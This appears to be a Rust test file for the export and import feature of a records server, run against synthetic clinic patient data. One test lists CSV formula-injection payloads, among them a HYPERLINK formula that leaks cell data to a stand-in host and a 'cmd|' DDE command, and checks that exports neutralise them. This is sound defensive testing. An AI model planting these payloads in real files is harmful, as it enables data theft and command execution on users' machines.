//! Exports: what the caller may take out and nothing else, on record before it leaves, and the same
//! records again where it is brought in.

use std::fs;
use std::path::Path;
use std::sync::Arc;

use serde_json::{Map, Value, json};
use strongroom_client::export::{Export, ExportError, export, verify};
use strongroom_client::import::{self, Format, Mapping, Rejects, Rows};
use strongroom_client::{Client, Place, Shown};
use strongroom_crypto::SystemRng;
use strongroom_tests::{Caller, Clinic, Person, Reply, Server, Tenant};
use tempfile::TempDir;

const PATIENTS: &str = "/collections/patients/records:export";

async fn opened() -> (Server, Clinic) {
    let server = Server::memory().await;
    let clinic = Clinic::open(&server, "Harbour Street Clinic").await;
    (server, clinic)
}

/// A key whose class may export and read, with this view.
pub(crate) async fn exporter(server: &Server, tenant: &Tenant, name: &str, view: &str) -> Caller {
    let rules = json!([{"actions": ["export", "read"], "view": view}]);
    let class = json!({"name": name, "label": name, "terms": {"rules": rules}});
    assert_eq!(tenant.owner.post("/classes", class).await.status, 201);
    tenant.key(server, &[name]).await
}

fn lines(reply: &Reply) -> Vec<Value> {
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(reply.header("content-type"), Some("application/x-ndjson"));
    reply.text().lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

pub(crate) fn client(caller: &Caller) -> (Client, Place) {
    let address = caller.address().parse().unwrap();
    let rng = Arc::new(SystemRng::new());
    let client = Client::new(address, Some(caller.token()), rng).unwrap();
    let tenant = caller.home().rsplit('/').next().unwrap().parse().unwrap();
    (client, Place::Tenant(tenant))
}

fn wanted(collection: &str, format: Format, part_records: u32) -> Export {
    let collection = collection.parse().unwrap();
    Export {
        collection,
        format,
        shown: Shown::default(),
        part_records,
        references: true,
        assignees: false,
    }
}

/// What a record is, without what belongs to one server: references as the external ids of what they
/// lead to.
pub(crate) async fn contents(by: &Caller, collection: &str) -> Vec<Value> {
    let mut seen = Vec::new();
    let mut next = String::new();
    loop {
        let path = format!("/collections/{collection}/records:export?limit=1000{next}");
        let page = by.get(&path).await;
        for mut record in lines(&page) {
            if let Some(patient) = record["fields"]["patient"].as_str() {
                let path = format!("/collections/patients/records/{patient}");
                record["fields"]["patient"] = by.get(&path).await.ok()["external_id"].clone();
            }
            let members = ["external_id", "source", "collected_at", "notice", "purposes", "fields"];
            let kept: Map<String, Value> =
                members.iter().map(|name| ((*name).to_owned(), record[name].clone())).collect();
            seen.push(Value::Object(kept));
        }
        match page.header("strongroom-next") {
            Some(cursor) => next = format!("&cursor={cursor}"),
            None => break,
        }
    }
    seen.sort_by_key(|record| record["external_id"].to_string());
    seen
}

#[tokio::test]
async fn an_export_has_what_the_caller_may_see_and_nothing_else() {
    let (server, clinic) = opened().await;
    let clear = exporter(&server, &clinic.tenant, "exporter", "clear").await;
    let records = lines(&clear.get(PATIENTS).await);
    assert_eq!(records.len(), 3);
    for (record, person) in records.iter().zip(Person::ALL) {
        assert_eq!(record["external_id"], person.external_id);
        assert_eq!(record["fields"], person.fields());
        assert_eq!(record["masked"], json!({}));
        assert_eq!(record["purposes"], json!(["care"]));
    }
    let masked = exporter(&server, &clinic.tenant, "masked_exporter", "masked").await;
    let hidden = exporter(&server, &clinic.tenant, "hidden_exporter", "hidden").await;
    for path in [PATIENTS.to_owned(), format!("{PATIENTS}?format=csv")] {
        for caller in [&masked, &hidden] {
            let text = caller.get(&path).await;
            assert_eq!(text.status, 200, "{}", text.text());
            for person in Person::ALL {
                for secret in [person.name, person.email, person.phone, person.birth_date] {
                    assert!(!text.text().contains(secret), "{path}: {secret}");
                }
            }
        }
    }
    assert_eq!(lines(&masked.get(PATIENTS).await)[0]["masked"]["name"], "M. H.");
    // Fields that are not asked for are not there.
    let some = lines(&clear.get(&format!("{PATIENTS}?fields=name")).await);
    assert_eq!(some[1]["fields"], json!({"name": Person::ALL[1].name}));
    // To read is not to take out.
    clinic.manager.get(PATIENTS).await.refused(403, "no_rule");
    clinic.clerk.get(&format!("{PATIENTS}?format=csv")).await.refused(403, "no_rule");
    clear.get("/collections/nothing/records:export").await.refused(404, "not_found");
    for (query, code) in [
        ("format=xlsx", "invalid_query"),
        ("format=", "invalid_query"),
        ("formats=csv", "invalid_query"),
        ("limit=1001", "limit_too_large"),
    ] {
        clear.get(&format!("{PATIENTS}?{query}")).await.refused(400, code);
    }
    clear.get(&format!("{PATIENTS}?cursor=x")).await.refused(422, "invalid");
    let empty = lines(&clear.get("/collections/visits/records:export?limit=1").await);
    assert_eq!(empty.len(), 1);
}

#[tokio::test]
async fn each_page_is_on_record_with_a_touch_for_each_record_and_what_is_revoked_ends_it() {
    let (server, clinic) = opened().await;
    let rules = json!([{"actions": ["export"], "view": "clear"}]);
    let class = json!({"name": "mover", "label": "Mover", "terms": {"rules": rules}});
    clinic.tenant.owner.post("/classes", class).await.id();
    let mover = clinic.tenant.key(&server, &["mover"]).await;
    let page = mover.get(&format!("{PATIENTS}?limit=2")).await;
    assert_eq!(lines(&page).len(), 2);
    let cursor = page.header("strongroom-next").unwrap().to_owned();
    assert!(page.header("link").unwrap().contains(&cursor));

    let log = clinic.tenant.owner.all("/audit", 1000).await;
    let exported: Vec<&Value> = log.iter().filter(|line| line["code"] == "record.export").collect();
    assert_eq!(exported.len(), 1, "{exported:?}");
    let touches = exported[0]["touches"].as_array().unwrap();
    let touched: Vec<&str> = touches.iter().map(|it| it["record"].as_str().unwrap()).collect();
    assert_eq!(touched, [clinic.patients[0].as_str(), clinic.patients[1].as_str()]);
    assert_eq!(page.lines().len(), 1);

    // A cursor of an export leads on in it alone, and only for those who may.
    let next = format!("{PATIENTS}?limit=2&cursor={cursor}");
    clinic.manager.get(&next).await.refused(403, "no_rule");
    mover
        .get(&format!("/collections/visits/records:export?cursor={cursor}"))
        .await
        .refused(422, "invalid");
    let nothing = json!({"label": "Mover", "terms": {"rules": []}});
    clinic.tenant.owner.put_if("/classes/mover", "*", nothing).await.ok();
    let stopped = mover.get(&next).await;
    assert!([403, 404].contains(&stopped.status), "{}", stopped.text());
}

#[tokio::test]
async fn no_cell_of_a_csv_export_is_a_formula_and_all_are_read_again_as_they_were() {
    let (server, clinic) = opened().await;
    let hostile = [
        "=1+1",
        "=HYPERLINK(\"http://x.example/?a=\"&A1,\"b\")",
        "+1-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)",
        "\t=1",
        "\r=1",
        "'quoted'",
        "a,b;c\"d\"\r\nnext line",
        "  =1+1",
        "plain",
        "-5",
    ];
    for (number, note) in hostile.iter().enumerate() {
        let fields = json!({"name": "Hana", "note": note});
        let body = json!({"external_id": format!("=H-{number}"), "fields": fields});
        clinic.tenant.record("patients", body).await;
    }
    let clear = exporter(&server, &clinic.tenant, "exporter", "clear").await;
    let mut csv = String::new();
    let mut next = String::new();
    loop {
        let page = clear.get(&format!("{PATIENTS}?format=csv&limit=4{next}")).await;
        assert_eq!(page.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
        csv.push_str(&page.text());
        match page.header("strongroom-next") {
            Some(cursor) => next = format!("&cursor={cursor}"),
            None => break,
        }
    }
    assert!(csv.starts_with("_id,_external_id,"), "{csv}");
    assert_eq!(csv.matches("_external_id").count(), 2, "the line of names stands once: {csv}");
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("patients.csv");
    fs::write(&file, &csv).unwrap();
    // As a spreadsheet reads it.
    let plain =
        "collection = \"patients\"\nexternal_id = \"_external_id\"\n[fields]\nnote = \"note\"";
    let mapping = Mapping::parse(plain).unwrap();
    let mut rows = Rows::new(Format::Csv, csv.as_bytes(), &mapping).unwrap();
    let mut seen = 0;
    while let Some(import::ReadRow::Row(_, row)) = rows.read().unwrap() {
        for column in ["_id", "_external_id", "_source", "name", "phone", "note"] {
            let import::Cell::Text(cell) = row.cell(column).unwrap() else { panic!("{column}") };
            let first = cell.trim_start().chars().next().unwrap_or('x');
            let is_formula = "=+-@\t\r".contains(first) && cell != "-5";
            assert!(!is_formula, "{column}: {cell:?}");
        }
        seen += 1;
    }
    assert_eq!(seen, 3 + hostile.len());

    // As an import reads it that knows of the apostrophes.
    let other = Clinic::open(&server, "Lindenhof Practice").await;
    let map = "collection = \"patients\"\nexternal_id = \"again {_external_id}\"\nnull = [\"\"]\n\
         formula_safe = true\ncollected_at = \"_collected_at\"\n[fields]\nname = \"name\"\n\
         phone = \"phone\"\nnote = \"note\"";
    let summary = bring(&other.tenant.owner, map, &file, folder.path()).await;
    assert_eq!((summary.created, summary.rejected), (15, 0), "{summary:?}");
    for (number, note) in hostile.iter().enumerate() {
        let named = json!({"external_id": format!("again =H-{number}")});
        let path = "/collections/patients/records:lookup";
        let record = other.tenant.owner.post(path, named).await.ok();
        assert_eq!(record["fields"]["note"], *note);
    }
}

/// Imports a file with a mapping.
async fn bring(by: &Caller, map: &str, file: &Path, folder: &Path) -> import::Summary {
    let mapping = Mapping::parse(map).unwrap();
    import_with(by, &mapping, file, folder).await
}

async fn import_with(
    by: &Caller,
    mapping: &Mapping,
    file: &Path,
    folder: &Path,
) -> import::Summary {
    let (client, place) = client(by);
    let rows = Rows::new(Format::of_name(file).unwrap(), fs::File::open(file).unwrap(), mapping);
    let mut rejects = Rejects::at(folder.join("rejects"), true).unwrap();
    let summary =
        import::import(client.at(place), mapping, rows.unwrap(), &mut rejects, None, |_| ()).await;
    summary.unwrap()
}

/// Declares collections of a clinic at another tenant.
async fn declare_again(clinic: &Clinic, tenant: &Tenant, collections: &[&str]) {
    for name in collections {
        let declared = clinic.tenant.owner.get(&format!("/collections/{name}")).await.ok();
        let fields = declared["fields"].as_array().unwrap();
        let fields: Vec<(&str, Value)> = fields
            .iter()
            .map(|field| (field["name"].as_str().unwrap(), field["type"].clone()))
            .collect();
        tenant.collection(name, declared["subject"].clone(), &fields).await;
    }
}

#[tokio::test]
async fn an_export_that_is_brought_into_another_server_gives_the_same_records() {
    let (server, clinic) = opened().await;
    let collected = json!({
        "external_id": "P-9", "source": "An old card", "collected_at": "2019-05-04T03:02:01Z",
        "notice": 4, "subject": {"external_id": "person-9"},
        "fields": {"name": "Nine", "note": "two\nlines, \"quoted\" and żółć"},
    });
    clinic.tenant.record("patients", collected).await;
    for number in 0..120 {
        let fields = json!({"patient": {"external_id": "P-9"}, "fee": format!("{number}.05")});
        let body = json!({"external_id": format!("W-{number}"), "fields": fields});
        clinic.tenant.record("visits", body).await;
    }
    let out = exporter(&server, &clinic.tenant, "exporter", "clear").await;
    let folder = TempDir::new().unwrap();
    let (from, place) = client(&out);
    for (collection, count) in [("patients", 4), ("visits", 124)] {
        let to = folder.path().join(format!("{collection}.ndjson"));
        let wanted = wanted(collection, Format::Ndjson, 50);
        let mut pages = 0;
        let summary = export(from.at(place), &wanted, &to, false, |_| pages += 1).await.unwrap();
        assert_eq!((summary.records, summary.unresolved), (count, 0));
        assert_eq!(summary.bytes, fs::metadata(&to).unwrap().len());
        assert_eq!(pages, count.div_ceil(50));
        let file = fs::File::open(&to).unwrap();
        let name = collection.parse().unwrap();
        let verified = verify(from.at(place), &name, &Shown::default(), file, |_| ()).await;
        let verified = verified.unwrap();
        assert_eq!((verified.same, verified.different, verified.gone), (count, 0, 0));
        // A file that is there is never overwritten.
        let again = export(from.at(place), &wanted, &to, false, |_| ()).await;
        assert!(matches!(again, Err(ExportError::Taken(_))));
    }

    let second = Server::memory().await;
    let tenant = second.tenant("Harbour Street Clinic").await;
    declare_again(&clinic, &tenant, &["patients", "visits"]).await;
    let into = tenant.key(&second, &["owner"]).await;
    // In the wrong order: what refers to records that are not there yet is rejected, and nothing else.
    let visits = Mapping::of_export("visits".parse().unwrap());
    let file = folder.path().join("visits.ndjson");
    let early = import_with(&into, &visits, &file, folder.path()).await;
    assert_eq!((early.created, early.rejected), (0, 124));
    for (name, count) in [("patients", 4), ("visits", 124)] {
        let mapping = Mapping::of_export(name.parse().unwrap());
        let file = folder.path().join(format!("{name}.ndjson"));
        let summary = import_with(&into, &mapping, &file, folder.path()).await;
        assert_eq!((summary.created, summary.rejected), (count, 0), "{summary:?}");
        let (client, place) = client(&into);
        let rows = Rows::new(Format::Ndjson, fs::File::open(&file).unwrap(), &mapping).unwrap();
        let verified = import::verify(client.at(place), &mapping, rows, |_| ()).await.unwrap();
        assert_eq!((verified.same, verified.different, verified.missing), (count, 0, 0));
        assert_eq!(contents(&into, name).await, contents(&out, name).await, "{name}");
    }
    // Whom a record is about came along too.
    let person = into.post("/subjects:lookup", json!({"external_id": "person-9"})).await.ok();
    let path = format!("/subjects/{}/records?limit=1000", person["id"].as_str().unwrap());
    assert_eq!(into.get(&path).await.ok()["data"].as_array().unwrap().len(), 121);

    // What was changed afterwards is found.
    let change = json!({"fields": {"fee": "9.99"}});
    let lookup = json!({"external_id": "W-7"});
    let found = into.post("/collections/visits/records:lookup", lookup).await.id();
    into.patch_if(&format!("/collections/visits/records/{found}"), "*", change).await.ok();
    let mapping = Mapping::of_export("visits".parse().unwrap());
    let file = folder.path().join("visits.ndjson");
    let (client, place) = client(&into);
    let rows = Rows::new(Format::Ndjson, fs::File::open(&file).unwrap(), &mapping).unwrap();
    let verified = import::verify(client.at(place), &mapping, rows, |_| ()).await.unwrap();
    assert_eq!((verified.same, verified.different), (123, 1));
    assert_eq!(verified.lines.len(), 1);
}

#[tokio::test]
async fn an_export_that_was_broken_off_goes_on_and_is_the_same_as_a_whole_one() {
    let (server, clinic) = opened().await;
    for number in 0..60 {
        server.clock.advance(1);
        let body = json!({"external_id": format!("E-{number}"), "fields": {"name": "Elin"}});
        clinic.tenant.record("patients", body).await;
    }
    let out = exporter(&server, &clinic.tenant, "exporter", "clear").await;
    let (client, place) = client(&out);
    let folder = TempDir::new().unwrap();
    for (format, name) in [(Format::Ndjson, "p.ndjson"), (Format::Csv, "p.csv")] {
        let (whole, broken) = (folder.path().join(name), folder.path().join(format!("b.{name}")));
        let wanted = wanted("patients", format, 10);
        export(client.at(place), &wanted, &whole, false, |_| ()).await.unwrap();
        let part = folder.path().join(format!("b.{name}.part"));
        for pages in 1..4_u32 {
            // Killed after so many pages of this run, with half a page behind the last.
            let killed = tokio::spawn({
                let (client, wanted, broken) = (client.clone(), wanted.clone(), broken.clone());
                async move {
                    let mut seen = 0;
                    export(client.at(place), &wanted, &broken, pages > 1, |_| {
                        seen += 1;
                        assert!(seen < pages, "killed");
                    })
                    .await
                }
            });
            assert!(killed.await.is_err(), "the run ends in the middle");
            assert!(!broken.exists());
            let mut text = fs::read(&part).unwrap();
            text.extend_from_slice(b"{\"half\":");
            fs::write(&part, text).unwrap();
        }
        let fresh = export(client.at(place), &wanted, &broken, false, |_| ()).await;
        assert!(matches!(fresh, Err(ExportError::BrokeOff(_))));
        let other = Export {
            shown: Shown { fields: vec!["name".parse().unwrap()], ..Shown::default() },
            ..wanted.clone()
        };
        let other = export(client.at(place), &other, &broken, true, |_| ()).await;
        assert!(matches!(other, Err(ExportError::Another)));
        let summary = export(client.at(place), &wanted, &broken, true, |_| ()).await.unwrap();
        assert_eq!(summary.records, 63);
        assert_eq!(fs::read(&broken).unwrap(), fs::read(&whole).unwrap());
        assert!(!part.exists());
        let nothing = folder.path().join(format!("n.{name}"));
        let nothing = export(client.at(place), &wanted, &nothing, true, |_| ()).await;
        assert!(matches!(nothing, Err(ExportError::NothingToResume(_))));
    }
    let names: Vec<String> = fs::read_dir(folder.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names.len(), 4, "nothing is left behind: {names:?}");
}

#[tokio::test]
async fn files_that_are_broken_stop_no_more_than_they_must() {
    let (_server, clinic) = opened().await;
    let folder = TempDir::new().unwrap();
    let by = &clinic.tenant.owner;
    let map = "collection = \"patients\"\nexternal_id = \"n\"\n[fields]\nname = \"name\"";
    let run = |name: &'static str, bytes: Vec<u8>| {
        let file = folder.path().join(name);
        fs::write(&file, bytes).unwrap();
        let folder = folder.path().to_owned();
        async move {
            let (client, place) = client(by);
            let mapping = Mapping::parse(map).unwrap();
            let open = fs::File::open(&file).unwrap();
            let rows = Rows::new(Format::of_name(&file).unwrap(), open, &mapping);
            let rows = rows.map_err(|error| error.to_string())?;
            let mut rejects = Rejects::at(folder.join("rejects"), false).unwrap();
            let summary =
                import::import(client.at(place), &mapping, rows, &mut rejects, None, |_| ()).await;
            summary.map_err(|error| error.to_string())
        }
    };
    // A line of 10 MB is rejected, and the next is taken.
    let mut long = b"{\"n\":\"A-1\",\"name\":\"".to_vec();
    long.extend(std::iter::repeat_n(b'x', 10_000_000));
    long.extend_from_slice(b"\"}\n{\"n\":\"A-2\",\"name\":\"Ada\"}\n");
    let summary = run("long.ndjson", long).await.unwrap();
    assert_eq!((summary.created, summary.rejected), (1, 1));
    // A CSV row of 10 MB, as after a quote that is never closed, ends the import; what came before is in.
    let mut open = b"n,name\nB-1,Bo\nB-2,\"Bea\n".to_vec();
    for number in 0..400_000 {
        open.extend_from_slice(format!("B-{number},Name {number}\n").as_bytes());
    }
    let error = run("open.csv", open).await.unwrap_err();
    assert!(error.contains("line 3"), "{error}");
    let named = json!({"external_id": "B-1"});
    by.post("/collections/patients/records:lookup", named).await.ok();
    // Latin-1 is no UTF-8: the rows with such letters are rejected. UTF-16 has no column of that name.
    let summary = run("latin.csv", b"n,name\nC-1,Ren\xe9\nC-2,Rene\n".to_vec()).await.unwrap();
    assert_eq!((summary.created, summary.rejected), (1, 1));
    let wide: Vec<u8> =
        "\u{feff}n,name\nD-1,Ana\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let error = run("wide.csv", wide).await.unwrap_err();
    assert!(error.contains("UTF-8") || error.contains("columns"), "{error}");
    let zero = b"\x00\n{\"n\":\"E-1\",\"name\":\"Eve\"}\n".to_vec();
    let summary = run("zero.ndjson", zero).await.unwrap();
    assert_eq!((summary.created, summary.rejected), (1, 1));
}

/// A user with this external id, if any: their id.
async fn colleague(tenant: &Tenant, name: &str, external_id: Option<&str>) -> String {
    let body = json!({"name": name, "classes": ["clerk"], "external_id": external_id});
    let made = tenant.owner.post("/users", body).await;
    assert_eq!(made.status, 201, "{}", made.text());
    made.id()
}

#[tokio::test]
async fn records_are_assigned_to_the_same_people_elsewhere_where_their_external_ids_are_known() {
    let (server, clinic) = opened().await;
    let known = colleague(&clinic.tenant, "Karla", Some("staff-1")).await;
    let unknown = colleague(&clinic.tenant, "Uwe", None).await;
    let both = json!([{"external_id": "staff-1"}, unknown, known]);
    let body = json!({"external_id": "A-1", "assignees": both, "fields": {"name": "Ann"}});
    let made = clinic.tenant.record("patients", body).await;
    assert_eq!(made["assignees"], json!([known, unknown]), "each once, as ids");
    let patient = clinic.patient(0);
    let assign = json!({"assignees": [{"external_id": "staff-1"}]});
    let changed = clinic.tenant.owner.patch_if(&patient, "*", assign).await.ok();
    assert_eq!(changed["assignees"], json!([known]));
    for nobody in ["staff-2", "STAFF-1"] {
        let assign = json!({"assignees": [{"external_id": nobody}]});
        let refused = clinic.tenant.owner.patch_if(&patient, "*", assign).await;
        let problem = refused.refused(422, "invalid");
        assert_eq!(problem["errors"][0]["pointer"], "/assignees/0", "{problem}");
    }

    let folder = TempDir::new().unwrap();
    let to = folder.path().join("patients.ndjson");
    let wanted = Export { assignees: true, ..wanted("patients", Format::Ndjson, 2) };
    // External ids of users are for those who manage users.
    let out = exporter(&server, &clinic.tenant, "exporter", "clear").await;
    let (from, place) = client(&out);
    let refused = export(from.at(place), &wanted, &to, false, |_| ()).await.unwrap_err();
    assert!(matches!(refused, ExportError::Client(_)), "{refused}");
    assert!(!to.exists());

    let to = folder.path().join("assigned.ndjson");
    let out = clinic.tenant.key(&server, &["owner"]).await;
    let (from, place) = client(&out);
    let summary = export(from.at(place), &wanted, &to, false, |_| ()).await.unwrap();
    assert_eq!((summary.records, summary.unresolved), (4, 1));
    let text = fs::read_to_string(&to).unwrap();
    assert!(
        text.contains("staff-1") && text.contains(&unknown) && !text.contains(&known),
        "{text}"
    );

    let second = Server::memory().await;
    let tenant = second.tenant("Harbour Street Clinic").await;
    declare_again(&clinic, &tenant, &["patients"]).await;
    let into = tenant.key(&second, &["owner"]).await;
    let mapping = Mapping::of_export("patients".parse().unwrap());
    let early = import_with(&into, &mapping, &to, folder.path()).await;
    assert_eq!((early.created, early.rejected), (2, 2), "nobody has that external id there");
    let rejects = fs::read_to_string(folder.path().join("rejects")).unwrap();
    assert!(rejects.contains("/assignees/0"), "{rejects}");
    fs::remove_file(folder.path().join("rejects")).unwrap();
    let there = colleague(&tenant, "Karla", Some("staff-1")).await;
    assert_ne!(there, known);
    let late = import_with(&into, &mapping, &to, folder.path()).await;
    assert_eq!((late.created, late.exists, late.rejected), (2, 2, 0), "{late:?}");
    for (external_id, assigned) in
        [("A-1", json!([there])), ("P-1", json!([there])), ("P-2", json!([]))]
    {
        let lookup = json!({"external_id": external_id});
        let found = into.post("/collections/patients/records:lookup", lookup).await.ok();
        assert_eq!(found["assignees"], assigned, "{external_id}");
    }
}
